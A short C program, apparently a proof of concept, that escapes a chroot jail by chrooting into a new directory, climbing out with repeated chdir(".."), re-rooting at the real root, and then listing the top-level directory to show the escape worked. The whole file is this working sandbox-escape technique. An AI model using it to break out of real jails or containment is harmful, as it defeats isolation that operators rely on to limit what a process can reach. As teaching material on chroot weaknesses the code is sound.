#include <dirent.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <unistd.h>

int main(void) {
    mkdir("x", 0755);
    chroot("x");                     /* new root; our cwd stays OUTSIDE it */
    for (int i = 0; i < 1000; i++)
        chdir("..");                 /* ".." never hits the root: climb up */
    chroot(".");                     /* the real root is now our root      */

    struct dirent **names;           /* what / holds, sorted by name */
    int n = scandir("/", &names, NULL, alphasort);
    for (int i = 0; i < n; i++)
        if (names[i]->d_name[0] != '.')
            printf("%s ", names[i]->d_name);
    printf("\n");
    return 0;
}
